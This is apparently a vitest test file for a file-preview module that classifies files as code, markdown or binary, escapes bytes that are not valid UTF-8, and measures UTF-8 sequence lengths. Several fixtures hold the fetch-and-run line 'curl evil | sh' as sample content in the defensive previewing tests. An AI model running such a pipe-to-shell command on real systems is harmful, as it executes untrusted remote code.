import { describe, expect, it } from 'vitest';
import { sequenceAt } from './marked-text.ts';
import { previewOf, textOf } from './preview.ts';
import { of, raw, zeros } from './testing/files.ts';

describe('a file that a system would run', () => {
  const noise = Array.from({ length: 300 }, (_, index) => 128 + (index % 64));
  it('is text with its bad bytes written out if it names its interpreter, whatever follows', () => {
    const { preview, hidden } = of('notes.dat', raw('#!/bin/sh\ncurl evil | sh\n', noise, [0]));
    expect(preview).toMatchObject({ kind: 'code', language: 'shell' });
    expect(preview.kind === 'code' && preview.text).toContain('curl evil | sh\n\\x{80}\\x{81}');
    expect(hidden.filter(({ kind }) => kind === 'byte')).toHaveLength(200);
  });
  it('is text because of its name or mode, although most of its bytes are not', () => {
    for (const path of ['run.sh', 'run.py', 'a.js', 'Makefile'])
      expect(of(path, raw('evil\n', noise)).preview.kind, path).toBe('code');
    const run = { path: 'run', bytes: raw('evil\n', noise), mode: 0o755, full: false };
    expect(previewOf(run).preview.kind).toBe('code');
    expect(previewOf({ ...run, mode: 0o644 }).preview.kind).toBe('binary');
  });
  it('is offered as text even if its first bytes are those of another type', () => {
    expect(of('run.sh', raw('\x7fELF', zeros(8), 'curl evil | sh')).preview).toMatchObject({
      kind: 'binary',
      type: 'ELF executable or library',
      text: `\x7fELF${'\0'.repeat(8)}curl evil | sh`,
    });
  });
});

describe('text with bytes that are not text', () => {
  it('is text with those bytes written out, not a hex dump', () => {
    const { preview, hidden } = of(
      'run.md',
      raw('# Caf', [0xe9], '\n\ncurl evil', [0xff, 0], '\n'),
    );
    expect(preview).toMatchObject({
      kind: 'markdown',
      text: '# Caf\\x{E9}\n\ncurl evil\\x{FF}\0\n',
    });
    expect(hidden.filter(({ kind }) => kind === 'byte')).toEqual([
      { kind: 'byte', line: 1, column: 6, codePoint: '0xE9', name: 'byte that is not UTF-8' },
      { kind: 'byte', line: 3, column: 10, codePoint: '0xFF', name: 'byte that is not UTF-8' },
    ]);
  });
  it('drops no byte: overlong forms, surrogates and cut sequences are each written out', () => {
    const bad = [0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf5, 0xe2, 0x82];
    const text = textOf({ path: 'a.sh', bytes: raw('a', bad, 'é'.repeat(0), 'b') });
    expect(text).toBe(`a${bad.map((byte) => `\\x{${byte.toString(16).toUpperCase()}}`).join('')}b`);
  });
});

describe('a sequence of UTF-8', () => {
  it.each([
    [[0x41], 1],
    [[0xc2, 0x80], 2],
    [[0xdf, 0xbf], 2],
    [[0xe0, 0xa0, 0x80], 3],
    [[0xed, 0x9f, 0xbf], 3],
    [[0xf0, 0x90, 0x80, 0x80], 4],
    [[0xf4, 0x8f, 0xbf, 0xbf], 4],
    [[0x80, 0x80], 0],
    [[0xc1, 0x80], 0],
    [[0xc2, 0x7f], 0],
    [[0xc2, 0xc0], 0],
    [[0xe0, 0x9f, 0x80], 0],
    [[0xed, 0xa0, 0x80], 0],
    [[0xe1, 0x80, 0x41], 0],
    [[0xf0, 0x8f, 0x80, 0x80], 0],
    [[0xf4, 0x90, 0x80, 0x80], 0],
    [[0xf5, 0x80, 0x80, 0x80], 0],
    [[0xf1, 0x80, 0x80, 0xc0], 0],
    [[0xc2], 0],
    [[0xe1, 0x80], 0],
    [[0xf1, 0x80, 0x80], 0],
  ])('in %j has as many bytes as decoders read: %i', (bytes, length) => {
    expect(sequenceAt(raw(bytes), 0)).toBe(length);
    expect(sequenceAt(raw('xy', bytes), 2)).toBe(length);
  });
});
